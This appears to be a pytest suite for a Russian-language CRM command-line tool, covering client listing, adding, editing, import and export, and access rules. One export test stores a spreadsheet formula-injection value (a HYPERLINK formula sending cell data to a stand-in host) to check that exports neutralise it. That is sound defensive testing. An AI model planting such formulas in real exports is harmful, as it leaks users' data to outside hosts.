"""``qstui client …`` end to end through the root group, on both backends."""

from __future__ import annotations

import csv
import json

from click.testing import CliRunner, Result
from openpyxl import load_workbook
from sqlalchemy import func, select
from tests.cli.proof import sign_in
from tests.conftest import file_mode

from qstui.cli.main import cli
from qstui.db.engine import Database
from qstui.db.models import AuditEntry, Company
from qstui.domain.clients import CompanyInput, ContactInput
from qstui.domain.enums import FieldEntity, FieldKind, Role
from qstui.services.access import users as users_module
from qstui.services.clients import companies as C
from qstui.services.clients import contacts as P
from qstui.services.clients import custom_fields as F
from qstui.services.context import Context, context_for

INN_A = "7707083893"


def run(db: Database, *args: str) -> Result:
    url = db.url.render_as_string(hide_password=False)
    return CliRunner().invoke(cli, ["--db", url, "--lang", "en", "client", *args])


def counts(db: Database) -> tuple[int, int]:
    with db.reader() as s:
        return (
            int(s.scalar(select(func.count()).select_from(Company)) or 0),
            int(s.scalar(select(func.count()).select_from(AuditEntry)) or 0),
        )


def dataset(db: Database) -> dict[str, int]:
    """ivanov and petrova (managers of «Продажи»), head (their head) and a few clients."""
    system = Context.system(db)
    slow, users_module.hash_password = users_module.hash_password, lambda p: "$test$"
    try:
        for login, role in (
            ("ivanov", Role.MANAGER),
            ("petrova", Role.MANAGER),
            ("head", Role.HEAD),
        ):
            users_module.create_user(system, login, login.title(), role, "secret-1", "Продажи")
    finally:
        users_module.hash_password = slow
    sign_in(db, "ivanov", "petrova", "head")
    ivanov, petrova = context_for(db, "ivanov"), context_for(db, "petrova")
    return {
        "romashka": C.create_company(ivanov, CompanyInput(name='ООО "Ромашка"', inn=INN_A)),
        "lutik": C.create_company(ivanov, CompanyInput(name="Лютик", city="Тула")),
        "vasilek": C.create_company(petrova, CompanyInput(name="Василёк")),
    }


def test_list_as_a_manager_shows_only_own_clients(db):
    ids = dataset(db)
    result = run(db, "list", "--as", "ivanov", "--json")
    assert result.exit_code == 0, result.output
    rows = json.loads(result.output)
    assert [(r["id"], r["name"]) for r in rows] == [  # by name: «лютик» < «ооо "ромашка"»
        (ids["lutik"], "Лютик"),
        (ids["romashka"], 'ООО "Ромашка"'),
    ]
    assert {r["manager"] for r in rows} == {"Ivanov"}
    assert rows[0]["debt"] == "0.00"
    result = run(db, "list", "--as", "ivanov", "--filter", "ромаш", "--json")
    assert [r["id"] for r in json.loads(result.output)] == [ids["romashka"]]
    result = run(db, "list", "--as", "head", "--manager", "petrova")
    assert result.exit_code == 0, result.output
    assert "Василёк" in result.output and "Лютик" not in result.output
    assert "Shown 1 of 1" in result.output


def test_add_prints_the_id_and_reports_each_bad_field_on_its_own_line(db):
    dataset(db)
    before = counts(db)
    result = run(
        db, "add", "--name", "Новая", "--inn", "7707083894", "--email", "bad", "--as", "ivanov"
    )
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 2
    assert lines[0].startswith("inn: ") and "checksum" in lines[0]
    assert lines[1].startswith("email: ")
    assert counts(db) == before

    result = run(db, "add", "--name", "Новая", "--inn", "7736207543", "--as", "ivanov")
    assert result.exit_code == 0, result.output
    new_id = int(result.output.strip())
    card = json.loads(run(db, "show", str(new_id), "--as", "ivanov", "--json").output)
    assert (card["name"], card["inn"], card["manager"]) == ("Новая", "7736207543", "Ivanov")


def test_duplicates_stop_the_add_unless_forced(db):
    ids = dataset(db)
    before = counts(db)
    result = run(db, "add", "--name", "Ромашка, ООО", "--as", "petrova")
    assert result.exit_code == 1
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert "--force" in lines[0]
    assert len(lines) == 2 and f"#{ids['romashka']}" in lines[1] and "Ivanov" in lines[1]
    assert counts(db) == before
    result = run(db, "add", "--name", "Ромашка, ООО", "--as", "petrova", "--force", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["id"] > ids["vasilek"]


def test_show_and_edit(db):
    ids = dataset(db)
    result = run(db, "show", str(ids["lutik"]), "--as", "ivanov")
    assert result.exit_code == 0, result.output
    assert "Лютик" in result.output and "Тула" in result.output
    result = run(db, "show", str(ids["vasilek"]), "--as", "ivanov")
    assert result.exit_code == 1
    assert len(result.stderr.strip().splitlines()) == 1 and "not found" in result.stderr
    result = run(
        db,
        "edit",
        str(ids["lutik"]),
        "--city",
        "Тверь",
        "--phone",
        "8 495 1234567",
        "--as",
        "ivanov",
    )
    assert result.exit_code == 0, result.output
    assert "saved (version 2)" in result.output
    card = json.loads(run(db, "show", str(ids["lutik"]), "--json").output)
    assert card["city"] == "Тверь" and card["phones"][0]["number"] == "8 495 1234567"
    result = run(db, "edit", str(ids["lutik"]), "--inn", "123", "--as", "ivanov")
    assert result.exit_code == 1 and result.stderr.startswith("inn: ")
    result = run(db, "edit", str(ids["lutik"]), "--as", "ivanov")
    assert result.exit_code == 2
    # a contact person's custom fields come with the person
    system = Context.system(db)
    hobby = F.create_field(system, "hobby", "Хобби", FieldKind.TEXT, entity=FieldEntity.CONTACT)
    person = ContactInput(last_name="Жуков")
    P.add_contact(context_for(db, "ivanov"), ids["lutik"], person, custom={hobby: "Рыбалка"})
    [contact] = json.loads(run(db, "show", str(ids["lutik"]), "--json").output)["contacts"]
    assert [(f["code"], f["value"]) for f in contact["custom_fields"]] == [("hobby", "Рыбалка")]


def test_import_and_export(db, tmp_path):
    dataset(db)
    source = tmp_path / "in.csv"
    source.write_bytes(
        "Наименование;ИНН;Город\nАстра;7736207543;Омск\nПлохая;123;\n".encode("cp1251")
    )
    before = counts(db)
    result = run(db, "import", str(source), "--as", "ivanov")
    assert result.exit_code == 1, result.output  # a rejected line
    assert "Dry run" in result.output and "1 to create" in result.output
    assert "line 3: inn:" in result.output
    assert counts(db) == before
    result = run(db, "import", str(source), "--apply", "--as", "ivanov", "--json")
    assert result.exit_code == 1, result.output  # the good line is written all the same
    report = json.loads(result.output)
    assert (report["created"], report["applied"]) == (1, True)
    assert report["rejected"][0]["line"] == 3

    target = tmp_path / "out.csv"
    result = run(db, "export", str(target), "--as", "ivanov")
    assert result.exit_code == 1 and "export" in result.stderr
    assert not target.exists()
    result = run(db, "export", str(target), "--as", "head", "--filter", "астра")
    assert result.exit_code == 0, result.output
    assert "1 clients exported" in result.output
    assert "Астра" in target.read_text(encoding="utf-8-sig")


def test_export_files_are_private_and_hold_no_formula(db, tmp_path, open_umask):
    dataset(db)
    hostile = '=HYPERLINK("http://x/?d="&B3,"Open")'
    C.create_company(context_for(db, "ivanov"), CompanyInput(name=hostile))
    csv_file, xlsx_file = tmp_path / "out.csv", tmp_path / "out.xlsx"
    xlsx_file.write_bytes(b"an older export")
    xlsx_file.chmod(0o644)
    for target in (csv_file, xlsx_file):
        result = run(db, "export", str(target), "--as", "head")
        assert result.exit_code == 0, result.output
        assert file_mode(target) == 0o600, target
    rows = csv.reader(csv_file.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
    assert "'" + hostile in [row[1] for row in rows]
    cells = [row[1] for row in load_workbook(xlsx_file).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells if "HYPERLINK" in c.value] == [(hostile, "s")]


def test_a_client_goes_only_to_a_visible_unlocked_manager(db):
    ids = dataset(db)
    result = run(db, "edit", str(ids["lutik"]), "--manager", "petrova", "--as", "ivanov")
    assert result.exit_code == 1
    assert "You cannot give work to the user petrova" in result.stderr
    users_module.lock_user(Context.system(db), "petrova")
    result = run(db, "edit", str(ids["lutik"]), "--manager", "petrova", "--as", "head")
    assert result.exit_code == 1 and "petrova is locked" in result.stderr
    result = run(db, "edit", str(ids["lutik"]), "--manager", "nobody", "--as", "head")
    assert result.exit_code == 1 and "nobody" in result.stderr
    assert (
        C.get_card(Context.system(db), ids["lutik"]).manager_id == context_for(db, "ivanov").user_id
    )
    # the locked manager's clients can still be listed
    result = run(db, "list", "--as", "head", "--manager", "petrova")
    assert result.exit_code == 0 and "Василёк" in result.output
